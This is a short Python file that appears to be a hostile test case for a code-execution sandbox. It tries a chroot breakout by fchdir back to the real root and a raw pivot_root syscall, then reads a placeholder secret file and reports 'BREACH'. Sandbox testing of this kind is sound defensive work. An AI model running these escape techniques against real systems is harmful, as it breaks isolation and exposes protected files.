# /// hostile
# verdicts = ["accepted", "runtime_error"]
# danger = "chroot and pivot_root, the oldest doors out."
# ///
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def f(x):
    os.makedirs("/tmp/cell/old", exist_ok=True)
    try:
        here = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/cell")
    except OSError:
        here = -1
    if here >= 0:
        os.fchdir(here)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        try:
            with open("@@SECRET_FILE@@") as file:
                return "BREACH: " + file.read()
        except OSError:
            return "BREACH: chroot"
    number = {"x86_64": 155, "aarch64": 41}[os.uname().machine]
    return "BREACH: pivot_root" if libc.syscall(number, b"/tmp/cell", b"/tmp/cell/old") == 0 else x + 1
